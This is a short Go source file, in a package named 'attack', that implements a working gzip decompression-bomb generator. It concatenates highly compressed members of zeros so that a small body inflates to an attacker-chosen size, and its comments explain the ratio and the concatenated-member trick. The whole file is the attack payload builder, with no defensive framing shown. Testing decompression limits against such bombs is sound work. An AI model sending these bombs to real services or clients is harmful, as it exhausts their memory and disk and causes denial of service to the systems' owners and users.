package attack

import (
	"bytes"
	"compress/gzip"
)

// GzipBomb returns a gzip body of at most size bytes that inflates to
// about inflate bytes: copies of one member of 1 MiB of zeros (gzip readers
// read concatenated members as one stream; deflate's best ratio, about
// 1000:1, is reached at that size already, and a larger member only costs
// more to compress), and how much it inflates to.
func GzipBomb(size int, inflate int64) (body []byte, inflated int64, err error) {
	member := min(inflate, 1<<20)
	var one bytes.Buffer
	zw, err := gzip.NewWriterLevel(&one, gzip.BestCompression)
	if err != nil {
		return nil, 0, err
	}
	if _, err := zw.Write(make([]byte, member)); err != nil {
		return nil, 0, err
	}
	if err := zw.Close(); err != nil {
		return nil, 0, err
	}
	n := min(int64(size/one.Len()), (inflate+member-1)/member)
	return bytes.Repeat(one.Bytes(), int(n)), n * member, nil
}
